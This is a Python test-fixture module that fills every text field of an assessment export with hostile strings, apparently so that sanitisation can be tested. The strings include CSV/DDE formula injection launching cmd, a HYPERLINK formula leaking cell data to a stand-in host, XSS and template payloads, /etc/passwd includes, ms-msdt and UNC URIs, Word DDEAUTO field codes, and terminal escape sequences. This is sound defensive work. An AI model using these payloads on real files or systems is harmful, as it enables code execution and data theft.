"""Entries made to do harm in whatever is made of them: formulas, scripts, addresses, field codes and more."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace
from itertools import cycle
from typing import Any

from eds_xl.assessment.entries import tidy
from eds_xl.assessment.model import Assessment, Figure
from eds_xl.assessment.place import Placed
from eds_xl.workbook.sheets import FORMS, TABLES
from eds_xl.workbook.spec import Entry, Form, Kind, Table
from tests.builders import complete_assessment

FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click")',
    '=WEBSERVICE("http://127.0.0.1:9/")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    '"=1+1"',
    ';=1+1;"=1+1',
    "{=1+1}",
    "DDE",
)
SCRIPTS = (
    "<script>alert('eds')</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</td></table></body><script src=//127.0.0.1:9/x.js></script>",
    "<iframe src=javascript:alert(1)>",
    "]]><script>alert(1)</script><![CDATA[",
    "<!-- <script> -->",
    "</style><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "<a href='javascript:alert(1)'>x</a>",
    "{{7*7}} ${7*7} <%= 7*7 %> #eval(7*7)",
    '#raw("x") #include "/etc/passwd" #read("/etc/passwd") #import "@preview/x:0.1.0"',
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///c:/windows/system32/calc.exe",
    "\\\\127.0.0.1\\share\\x.exe",
    "//127.0.0.1/share",
    "ms-word:ofe|u|http://127.0.0.1:9/x.docm",
    "ms-msdt:/id PCWDiagnostic",
    "search-ms:query=x&crumb=location:\\\\127.0.0.1\\share",
    "ftp://127.0.0.1/x",
    "http://[::1",
    "https://user:pass@127.0.0.1@evil.example/",
    "https://example.org/\"onmouseover='alert(1)'",
    "https://example.org/<script>",
    "mailto:x@example.org?subject=a%0d%0aBcc:y@example.org",
    "[text](javascript:alert(1))",
    "[text](file:///etc/passwd) and https://example.org/a_(b)",
)
FIELD_CODES = (
    '{ INCLUDETEXT "c:\\\\secret.txt" }',
    '{DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"}',
    'DDE "cmd" "/c calc"',
    '\x13 INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d \x14 x \x15',
    'TOC \\o "1-9"',
    '<w:instrText>INCLUDETEXT "x"</w:instrText>',
    '</w:t></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>',
    "_x000D__x0013_",
)
TERMINAL = (
    "\x1b]0;owned\x07",
    "\x1b[2J\x1b[31m",
    "\x9b31m",
    "\x08\x08\x08hidden",
    "\u202egnp.exe",
    "\x00\x01\x02",
    "\x7f",
)
ALL = (*FORMULAS, *SCRIPTS, *ADDRESSES, *FIELD_CODES, *TERMINAL)


def hostile_assessment() -> Assessment:
    """Return the complete assessment with something hostile in every entry that takes text, each several times."""
    assessment, texts = complete_assessment(), cycle(ALL)
    for _, form in FORMS:
        if not form.recorded:
            record = _filled(getattr(assessment, form.holds), form, texts)
            assessment = _with(assessment, form.holds, record)
    for holds in {table.holds for _, table in TABLES if table.record is not None}:
        table = next(table for _, table in TABLES if table.holds == holds)
        rows = getattr(assessment, holds) * (1 if table.key or table.rows else 4)
        assessment = _with(assessment, holds, tuple(_filled(row, table, texts) for row in rows))
    figures = tuple(Figure(f"F{n}", title=text, show_as="Table", column_1=text) for n, text in enumerate(ALL))
    return tidy(replace(assessment, figures=figures))


def _with(assessment: Assessment, name: str, value: Any) -> Assessment:
    changed: dict[str, Any] = {name: value}
    return replace(assessment, **changed)


def _filled(record: Placed, block: Form | Table, texts: Iterator[str]) -> Placed:
    entered: dict[str, Any] = {entry.attribute: next(texts) for entry in block.entries if _takes_text(entry)}
    return replace(record, **entered)


def _takes_text(entry: Entry) -> bool:
    free = not entry.choices or entry.open_choice
    return bool(entry.attribute) and free and entry.kind in (Kind.TEXT, Kind.LINES, Kind.DATE, Kind.CHOICE)
